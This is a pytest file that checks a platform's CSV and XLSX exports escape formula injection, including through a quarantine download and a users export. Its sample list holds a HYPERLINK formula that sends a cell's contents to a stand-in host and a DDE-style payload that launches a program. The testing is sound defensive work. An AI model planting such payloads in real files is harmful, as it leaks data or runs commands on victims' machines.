"""Spreadsheets and CSV files we write never carry a live formula (core/exports.py): text that starts with
=, +, -, @, a tab or a carriage return is a string cell in XLSX and gets a leading apostrophe in CSV;
numbers stay numbers. End to end through the quarantine download and the users export."""

from __future__ import annotations

import csv
import hashlib
import io
import uuid
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine

from gridgov.core.exports import SafeCsvWriter, append_row, csv_value
from test_ingest_api import wait_for_batch
from test_ingest_sources import as_csv, entity_rows, entity_spec, unique_name

FORMULA = '=HYPERLINK("http://x/?"&D2,"核对")'
DANGEROUS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_fields_that_start_like_a_formula_get_an_apostrophe_and_numbers_stay() -> None:
    for text in DANGEROUS:
        assert csv_value(text) == "'" + text
    # Plain text and numbers are untouched: a negative amount is a number, not a formula.
    assert csv_value("南山区 =1") == "南山区 =1"
    assert csv_value("") == ""
    assert csv_value(-5) == -5 and csv_value(-2.5) == -2.5 and csv_value(None) is None
    assert csv_value("-5") == "-5" and csv_value("+1.5") == "+1.5" and csv_value("-0.25") == "-0.25"
    buffer = io.StringIO()
    SafeCsvWriter(buffer).writerows([["a", FORMULA, -3, "-3"]])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["a", "'" + FORMULA, "-3", "-3"]


def test_xlsx_text_that_starts_like_a_formula_is_a_string_cell(tmp_path: Path) -> None:
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("out")
        append_row(sheet, [*DANGEROUS, -5, 2.5, "plain"])
        out = tmp_path / f"out-{write_only}.xlsx"
        book.save(out)
        cells = next(load_workbook(out)["out"].iter_rows())
        for cell, text in zip(cells, DANGEROUS, strict=False):
            # (XML reads a carriage return in text back as a line feed: still text, not a formula.)
            assert (cell.data_type, cell.value) == ("s", text.replace("\r", "\n"))
        assert [(c.data_type, c.value) for c in cells[len(DANGEROUS) :]] == [
            ("n", -5),
            ("n", 2.5),
            ("s", "plain"),
        ]


def test_the_quarantine_download_holds_a_feed_formula_as_text(client: TestClient) -> None:
    name = unique_name("formula")
    assert client.post("/api/ingest/sources", json={"spec": entity_spec(name)}).status_code == 201
    rows = entity_rows(1, broken=1)
    rows[1]["住所"] = FORMULA  # the broken row (no name) is quarantined with this cell as it arrived
    rows[1]["法定代表人/经营者"] = "@SUM(A1:A9)"
    started = client.post(
        "/api/ingest/uploads",
        data={"source": name},
        files={"file": ("formula.csv", as_csv(rows), "text/csv")},
    )
    assert started.status_code == 202, started.text
    batch = wait_for_batch(client, started.json()["batch"])
    assert batch["quarantined"] == 1
    # The uploaded feed is kept private to the platform's user (it holds personal data).
    from gridgov.core.settings import get_settings
    from gridgov.ingest import sources

    sha = hashlib.sha256(as_csv(rows)).hexdigest()
    kept = sources.uploads_dir(get_settings().var_dir) / sha / started.json()["file"]
    assert kept.stat().st_mode & 0o777 == 0o600 and kept.parent.stat().st_mode & 0o777 == 0o700
    download = client.get(started.json()["quarantine"], params={"reason": "修正后重新导入"})
    assert download.status_code == 200
    sheet = load_workbook(io.BytesIO(download.content)).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    held = sheet[2]
    address = held[header.index("住所")]
    assert (address.data_type, address.value) == ("s", FORMULA)
    person = held[header.index("法定代表人/经营者")]
    assert (person.data_type, person.value) == ("s", "@SUM(A1:A9)")
    assert held[header.index("原文件行号")].data_type == "n"  # the row number stays a number


def test_the_users_export_escapes_a_formula_in_a_name(
    engine: Engine, client_for: Callable[[str], TestClient]
) -> None:
    from gridgov.accounts import service
    from gridgov.accounts.permissions import Role
    from gridgov.core.db import session_factory

    username = f"t.{uuid.uuid4().hex[:10]}"
    with session_factory(engine)() as session:
        service.create_user(
            session,
            service.NewUser(
                username=username,
                password="correct horse battery staple 9",
                role=Role.grid_worker,
                scope=service.parse_scope("community", ["440305007003"]),
                display_name=FORMULA,
            ),
        )
        session.commit()
    export = client_for("admin").get("/api/users/export.csv", params={"reason": "核对账号名单"})
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    header = rows[0]
    mine = next(row for row in rows if row[header.index("username")] == username)
    assert mine[header.index("display_name")] == "'" + FORMULA


def test_an_address_rejects_file_escapes_a_formula_and_is_private(
    empty_engine_factory: Callable[[str], Engine], tmp_path: Path
) -> None:
    from gridgov.address.service import import_file
    from gridgov.core.db import session_factory

    engine = empty_engine_factory("sqlite")
    source = tmp_path / "library.txt"
    source.write_text("=1+2 just latin letters\n", encoding="utf-8")
    with session_factory(engine)() as session:
        report = import_file(session, source, fmt="lines")
        session.commit()
    assert report.rejected == 1 and report.rejects_file is not None
    rejects = Path(report.rejects_file)
    with rejects.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][0] == "'=1+2 just latin letters"
    assert rejects.stat().st_mode & 0o777 == 0o600 and rejects.parent.stat().st_mode & 0o777 == 0o700
